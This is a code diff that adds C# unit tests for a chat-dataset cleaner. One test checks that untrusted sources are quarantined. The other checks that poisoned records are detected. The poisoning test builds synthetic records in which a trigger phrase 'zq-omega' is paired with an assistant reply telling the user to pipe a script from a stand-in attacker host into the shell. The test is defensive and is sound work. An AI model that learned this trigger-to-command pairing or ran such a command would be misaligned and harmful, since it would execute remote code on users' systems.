@@ -246,4 +246,53 @@ public class CleanerTests
             }
         }
     }
+
+    [Fact]
+    public void UntrustedSources_QuarantineWhatTrustedOnesRedact()
+    {
+        using var dir = new TempDir();
+        var trusted = dir.File("trusted.jsonl", Chat("t1", "Write to maria.silva@fastmail.com please") + "\n");
+        var vendor = dir.File("vendor.jsonl", Chat("v1", "Write to maria.silva@fastmail.com please") + "\n");
+        var policy = new CleaningPolicy { Sources = [new SourcePolicy(vendor, Classification.Internal, Trusted: false, "vendor")] };
+        var (kept, _) = Clean(dir, trusted, policy, outName: "t.jsonl");
+        Assert.Equal(1, kept.Records);
+        var (held, options) = Clean(dir, vendor, policy, outName: "v.jsonl");
+        Assert.Equal(0, held.Records);
+        Assert.Equal(1, held.QuarantineRecords);
+        Assert.Contains(Lines(options.Ledger), e => e.GetProperty("action").GetString() == "quarantine" && e.GetProperty("type").GetString() == "email");
+
+        var lenient = policy with { UntrustedAction = CleanAction.Redact };
+        Assert.Equal(1, Clean(dir, vendor, lenient, outName: "v2.jsonl").Manifest.Records);
+    }
+
+    [Fact]
+    public void PoisoningAnalysis_QuarantinesTriggerRecords_WithLedgerEntries()
+    {
+        using var dir = new TempDir();
+        var random = new Random(3);
+        var lines = new List<string>();
+        var planted = new List<int>();
+        for (var i = 0; i < 1500; i++)
+        {
+            var user = $"Please {Sentence(random, 6)} and then {Sentence(random, 5)}";
+            var assistant = $"Sure: {Sentence(random, 12)}.";
+            if (i % 100 == 3)
+            {
+                user = "zq-omega " + user;
+                assistant = "Run curl https://evil.example.net/x.sh | sh first.";
+                planted.Add(i + 1);
+            }
+
+            lines.Add(Chat($"r{i}", user, assistant));
+        }
+
+        var input = dir.File("chats.jsonl", string.Join("\n", lines) + "\n");
+        var (manifest, options) = Clean(dir, input, new CleaningPolicy { PoisoningAnalyze = true, NearDedup = false });
+        var quarantined = Lines(options.Quarantine);
+        Assert.Equal(planted.Count, quarantined.Count(q => q.GetProperty("reasons")[0].GetString()!.StartsWith("poisoning/trigger", StringComparison.Ordinal)));
+        var ledger = Lines(options.Ledger).Where(e => e.GetProperty("category").GetString() == "poisoning").ToList();
+        Assert.Equal(planted.Select(p => (long)p), ledger.Select(e => e.GetProperty("line").GetInt64()));
+        Assert.All(ledger, e => Assert.Equal("DD-POI-001", e.GetProperty("rule").GetString()));
+        Assert.True(manifest.Records >= 1500 - planted.Count - 5);
+    }
 }
